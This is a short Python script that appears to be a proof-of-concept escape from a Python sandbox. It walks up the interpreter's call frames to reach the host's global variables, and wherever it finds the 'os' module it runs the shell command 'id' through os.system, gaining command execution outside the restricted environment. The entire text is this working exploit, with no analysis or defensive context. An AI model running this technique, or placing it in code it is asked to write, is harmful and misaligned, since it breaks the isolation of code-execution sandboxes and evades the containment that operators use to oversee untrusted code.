# Walk frames outwards looking for the host's globals.
import sys
f = sys._getframe()
seen = 0
while f is not None:
    if 'os' in f.f_globals:
        f.f_globals['os'].system('id')
    seen += 1
    f = f.f_back
print(seen)
